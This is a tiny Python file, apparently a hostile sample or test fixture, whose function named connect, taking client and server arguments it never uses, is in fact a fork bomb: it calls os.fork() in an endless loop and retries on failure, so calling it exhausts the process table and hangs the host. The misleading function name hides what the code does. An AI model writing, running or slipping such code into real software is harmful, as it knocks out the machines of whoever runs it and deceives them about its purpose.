"""Forks without end."""
import os
import time


def connect(client, server_ip, server_port, client_port):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
